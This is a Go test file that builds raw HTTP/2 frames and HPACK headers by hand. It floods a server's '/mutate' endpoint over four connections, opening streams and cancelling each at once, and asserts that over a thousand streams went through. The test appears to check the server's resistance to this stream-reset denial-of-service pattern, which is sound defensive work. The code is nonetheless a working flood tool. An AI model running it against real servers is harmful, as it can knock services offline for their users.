package main

import (
	"encoding/binary"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/stretchr/testify/assert"
)

// Frames of HTTP/2 (RFC 9113, 6) and header fields of HPACK (RFC 7541), as many
// as it takes to begin requests and to reset them: no client library does that.
const (
	frameHeaders   = 1
	frameReset     = 3
	frameSettings  = 4
	flagEndHeaders = 4
	resetCancel    = 8
	preface        = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

// frame appends a frame.
func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	to = binary.BigEndian.AppendUint32(to, stream)
	return append(to, payload...)
}

// reviewFields are the header of a POST to /mutate: indexed fields of the
// static table (:method POST is 3, :scheme https 7), and literals whose names
// are in it (:path 4, :authority 1, content-type 31).
func reviewFields() []byte {
	fields := []byte{0x83, 0x87}
	literal := func(name []byte, value string) {
		fields = append(append(append(fields, name...), byte(len(value))), value...)
	}
	literal([]byte{0x04}, "/mutate")
	literal([]byte{0x01}, "berth")
	literal([]byte{0x0f, 31 - 15}, "application/json")
	return fields
}

// withResets begins requests and resets each at once, over four connections,
// and dials again when the server has had enough of one.
func (a *attacked) withResets() {
	const lasting, batch = 2 * time.Second, 100
	var streams, connections atomic.Int64
	var attackers sync.WaitGroup
	until := time.Now().Add(lasting)
	for range 4 {
		attackers.Go(func() {
			for time.Now().Before(until) {
				streams.Add(a.resetUntil(until, batch))
				connections.Add(1)
			}
		})
	}
	attackers.Wait()
	a.t.Logf("%d streams begun and reset over %d connections in %s", streams.Load(), connections.Load(), lasting)
	assert.Greater(a.t, streams.Load(), int64(1000))
}

// resetUntil begins and resets streams on one connection, until then or until
// the server closes it; it gives how many.
func (a *attacked) resetUntil(until time.Time, batch int) (streams int64) {
	conn, err := a.dial("h2")
	if !assert.NoError(a.t, err) {
		return 0
	}
	defer func() { _ = conn.Close() }()
	assert.Equal(a.t, "h2", conn.ConnectionState().NegotiatedProtocol)
	_ = conn.SetDeadline(until)
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	out, fields := frame([]byte(preface), frameSettings, 0, 0, nil), reviewFields()
	for stream := uint32(1); ; {
		for range batch {
			out = frame(out, frameHeaders, flagEndHeaders, stream, fields)
			out = frame(out, frameReset, 0, stream, []byte{0, 0, 0, resetCancel})
			stream += 2
		}
		if _, err := conn.Write(out); err != nil {
			return streams
		}
		streams += int64(batch)
		out = out[:0]
	}
}
